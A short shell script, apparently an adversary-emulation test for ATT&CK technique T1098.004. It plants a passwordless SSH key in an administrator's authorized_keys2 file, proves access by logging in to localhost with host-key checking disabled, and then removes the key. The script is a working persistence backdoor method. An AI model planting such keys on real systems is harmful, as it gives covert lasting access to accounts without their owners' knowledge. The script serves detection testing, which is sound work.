#!/bin/sh
# T1098.004 (quiet): A key in authorized_keys2 of an administrator
M=/var/tmp/luytre-foothold N=13-key-second-file
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
key() { rm -f "$M/$N.key" "$M/$N.key.pub"; ssh-keygen -q -t ed25519 -N "" -C "$1" -f "$M/$N.key"; }
enter() { u=$1; shift; ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -i "$M/$N.key" "$u@127.0.0.1" "$@"; }
plant() {
  key "quantri"
  mkdir -p /home/quantri/.ssh; cp $M/$N.key.pub /home/quantri/.ssh/authorized_keys2; chown -R quantri: /home/quantri/.ssh; chmod 700 /home/quantri/.ssh; chmod 600 /home/quantri/.ssh/authorized_keys2
}
prove() {
  rm -f "$M/$N"
  enter quantri "id > /var/tmp/luytre-foothold/13-key-second-file"
  seen
}
remove() {
  rm -f /home/quantri/.ssh/authorized_keys2
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
